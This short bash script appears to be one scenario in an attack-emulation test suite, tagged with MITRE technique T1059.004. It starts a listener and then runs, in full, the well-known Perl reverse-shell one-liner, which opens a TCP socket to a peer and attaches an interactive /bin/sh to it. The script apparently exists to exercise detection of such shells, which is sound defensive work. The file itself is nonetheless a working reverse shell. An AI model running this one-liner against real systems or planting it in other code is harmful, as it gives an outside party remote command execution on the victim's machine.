#!/usr/bin/env bash
# Reverse shell: the Perl one-liner (IO socket opened onto STDIN/STDOUT/STDERR, exec /bin/sh -i).
. "$(dirname "$0")/../lib.sh"
scn_begin revshell-perl T1059.004
scn_require perl
scn_attacker_listen 4450
perl -e 'use Socket;$i=$ARGV[0];$p=$ARGV[1];socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' "$SCN_PEER" "$SCN_PORT" 2>/dev/null &
scn_track $!
scn_shell_finish
